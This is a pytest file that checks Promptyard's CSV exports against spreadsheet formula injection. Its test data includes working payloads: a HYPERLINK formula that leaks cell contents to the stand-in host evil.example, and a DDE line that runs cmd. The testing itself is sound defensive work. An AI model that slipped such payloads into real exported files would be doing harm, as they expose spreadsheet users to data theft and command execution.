"""Every CSV Promptyard writes keeps a spreadsheet from running its cells as formulas.

The OWASP rule: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
gets a `'` in front. Checked on each writer (`promptyard results --format csv`,
`promptyard ratings export`, the Compare page's export, the Dashboard's leaderboard)
with every trigger, and `--raw` gives the stored text back.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from promptyard import ratings
from promptyard.csv_safety import FORMULA_TRIGGERS, neutralise_cell, write_csv
from promptyard.reading import export_grid
from promptyard.workspace import Workspace
from tests.cli import run_cli
from tests.ratings_seed import seed_run

# One output per trigger, then text that must stay as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["a plain answer", "3 apples = 3", "", "'quoted already"]
OUTPUTS = HOSTILE + SAFE


def _seed(ws: Workspace) -> int:
    seeded = seed_run(
        ws, rows=len(OUTPUTS), variants=[("summarize", 1, "sim-fast")],
        output=lambda row, _variant, _repeat: OUTPUTS[row],
    )  # fmt: skip
    return seeded.run_id


def _expected(value: str) -> str:
    return "'" + value if value in HOSTILE else value


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_each_trigger_is_neutralised(trigger: str) -> None:
    assert neutralise_cell(trigger + "1") == "'" + trigger + "1"
    assert neutralise_cell("x" + trigger) == "x" + trigger  # only the first character counts


def test_numbers_and_empty_cells_stay_as_they_are() -> None:
    assert neutralise_cell(-0.5) == -0.5 and neutralise_cell(-3) == -3
    assert neutralise_cell(None) is None and neutralise_cell("") == ""
    buf = io.StringIO(newline="")
    write_csv(buf, ["a", "b"], [{"a": -1.5, "b": "=1"}])
    assert buf.getvalue() == "a,b\r\n-1.5,'=1\r\n"


def test_results_csv_neutralises_and_raw_keeps_the_text(workspace: Workspace) -> None:
    run_id = _seed(workspace)
    safe = run_cli("results", str(run_id), "--format", "csv", check=True)
    assert [r["output"] for r in _rows(safe.stdout)] == [_expected(o) for o in OUTPUTS]
    raw = run_cli("results", str(run_id), "--format", "csv", "--raw", check=True)
    assert [r["output"] for r in _rows(raw.stdout)] == OUTPUTS
    # JSON lines are data, not a spreadsheet: never altered.
    jsonl = run_cli("results", str(run_id), check=True).stdout
    assert '"output": "=HYPERLINK(' in jsonl


def test_ratings_export_neutralises_and_raw_keeps_the_text(workspace: Workspace) -> None:
    run_id = _seed(workspace)
    seeded_cells = [r["cell_id"] for r in _rows(run_cli("results", str(run_id), "--format",
                                                         "csv", check=True).stdout)]  # fmt: skip
    comments = ["=1+2", "+1", "-1", "@A1", "fine"]
    for cell_id, comment in zip(seeded_cells, comments, strict=False):
        ratings.rate_cell(workspace, int(cell_id), "quality", 3, "ann", comment=comment)
    safe = run_cli("ratings", "export", str(run_id), check=True, home=workspace.root)
    assert [r["comment"] for r in _rows(safe.stdout)] == ["'=1+2", "'+1", "'-1", "'@A1", "fine"]
    raw = run_cli("ratings", "export", str(run_id), "--raw", check=True, home=workspace.root)
    assert [r["comment"] for r in _rows(raw.stdout)] == comments
    assert ratings.export_ratings(workspace, run_id, raw=False).count("'=1+2") == 1


def test_compare_export_neutralises(workspace: Workspace) -> None:
    run_id = _seed(workspace)
    rows = _rows(export_grid(workspace, [run_id], "csv"))
    assert [r["output"] for r in rows] == [_expected(o) for o in OUTPUTS]
    raw = _rows(export_grid(workspace, [run_id], "csv", raw=True))
    assert [r["output"] for r in raw] == OUTPUTS


def test_leaderboard_csv_as_the_dashboard_writes_it() -> None:
    # The Dashboard's download: board.map(neutralise_cell).to_csv() (app/views/dashboard.py).
    board = pd.DataFrame({"prompt": ["=cmd()", "ok"], "mean_latency_ms": [-1.0, 2.0]})
    rows = _rows(board.map(neutralise_cell).to_csv(index=False))
    assert rows == [
        {"prompt": "'=cmd()", "mean_latency_ms": "-1.0"},
        {"prompt": "ok", "mean_latency_ms": "2.0"},
    ]
